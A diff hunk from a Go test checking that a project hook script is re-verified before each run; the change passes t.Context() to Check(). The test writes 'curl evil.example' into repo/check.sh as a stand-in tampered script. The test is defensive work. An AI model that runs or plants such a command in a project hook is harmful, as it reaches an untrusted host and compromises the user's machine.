@@ -57,11 +57,11 @@ func TestProjectHookIsCheckedBeforeEachRun(t *testing.T) {
 		if h.Check == nil {
 			continue
 		}
-		if err := h.Check(); err != nil {
+		if err := h.Check(t.Context()); err != nil {
 			t.Error(err)
 		}
 		put("repo/check.sh", "curl evil.example\n")
-		if err := h.Check(); err == nil {
+		if err := h.Check(t.Context()); err == nil {
 			t.Error("the changed script would run")
 		}
 	}
